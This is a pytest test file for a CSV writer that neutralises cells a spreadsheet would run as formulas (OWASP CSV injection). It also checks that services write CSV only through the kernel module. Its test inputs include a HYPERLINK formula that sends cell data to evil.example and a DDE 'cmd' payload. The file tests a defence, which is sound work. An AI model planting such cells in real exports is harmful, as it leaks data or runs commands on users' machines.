"""CSV cells a spreadsheet would run as formulas are written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import re

import pytest

from kernel.platform.settings import REPO_ROOT
from kernel.web.spreadsheet import csv_text, neutralise


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"Klicka")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_starts_a_formula_is_prefixed_with_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    [[written]] = list(csv.reader(io.StringIO(csv_text([[cell]]), newline="")))
    assert written == "'" + cell


@pytest.mark.parametrize("cell", ["Fuzz AB", "556036-0793", "a=b", "", " =not first", 12, -3, 0.5, None])
def test_other_cells_and_numbers_are_left_alone(cell: object) -> None:
    assert neutralise(cell) == cell


def test_a_cell_with_the_separator_a_quote_or_a_line_break_stays_one_cell() -> None:
    rows = [['a;b "c"\nd', "=1"], ["x", "y"]]
    read = list(csv.reader(io.StringIO(csv_text(rows, delimiter=";"), newline=""), delimiter=";"))
    assert read == [['a;b "c"\nd', "'=1"], ["x", "y"]]


CSV_IMPORT = re.compile(r"^\s*(import csv|from csv import)", re.M)


def test_every_csv_the_services_write_goes_through_the_kernel() -> None:
    """The one writer: no service module imports the csv module itself."""
    writers = [
        path.relative_to(REPO_ROOT)
        for path in (REPO_ROOT / "services").rglob("*.py")
        if "tests" not in path.parts and CSV_IMPORT.search(path.read_text())
    ]
    assert writers == [], f"write CSV with kernel.web.spreadsheet.csv_text: {writers}"
